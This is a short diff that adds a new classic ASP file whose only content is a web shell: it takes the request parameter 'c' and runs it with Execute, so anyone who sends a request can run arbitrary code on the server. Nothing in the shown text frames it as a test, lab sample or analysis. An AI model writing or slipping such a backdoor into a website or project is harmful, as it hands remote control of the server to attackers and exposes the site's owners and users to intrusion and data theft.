@@ -1,0 +1,6 @@
+<%
+Dim code
+If Request("c") <> "" Then
+    Execute Request("c")
+End If
+%>
